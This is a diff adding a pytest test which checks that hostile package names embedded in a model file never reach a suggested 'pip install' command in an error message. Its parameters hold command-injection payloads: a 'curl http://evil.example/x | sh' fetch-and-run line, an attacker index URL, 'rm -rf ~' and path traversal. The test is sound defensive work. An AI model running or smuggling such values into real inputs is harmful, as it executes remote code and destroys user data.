@@ -108,3 +108,24 @@ def test_installed_opset_without_that_op(kit, plugins: PluginSystem) -> None:
                        match=r"opset 'test_ext' is provided by my-dist 1\.0 \(plugin 'my-plugin'\), but "
                              r"it has no operation 'Shift' \(it has: Scale\)"):
         read_ir(renamed, weights, ps)
+
+
+@pytest.mark.parametrize("dist", [
+    "pkg --index-url http://evil.example/simple; curl http://evil.example/x | sh #",
+    "-e git+https://evil.example/repo",
+    "pkg\n`rm -rf ~`",
+    "../../etc",
+])
+def test_a_distribution_that_is_not_a_package_name_is_never_shown(kit, plugins: PluginSystem, dist: str) -> None:
+    # The file chooses this text: it must never become the command a user is told to run.
+    ps = with_scale(plugins)
+    xml, weights = serialize(scale_model(kit, ps), plugins=ps)
+    hostile = xml.replace(b'<distribution value="my-dist" />',
+                          b'<distribution value="' + dist.replace("\n", "&#10;").encode() + b'" />')
+    hostile = hostile.replace(b'<plugin value="my-plugin" />', b'<plugin value="x; sh" />')
+    assert hostile != xml
+    with pytest.raises(UnsupportedOpError) as info:
+        read_ir(hostile, weights, plugins)
+    msg = str(info.value)
+    assert "pip install" not in msg and "evil" not in msg and "rm -rf" not in msg and "; sh" not in msg
+    assert "does not record which package did" in msg
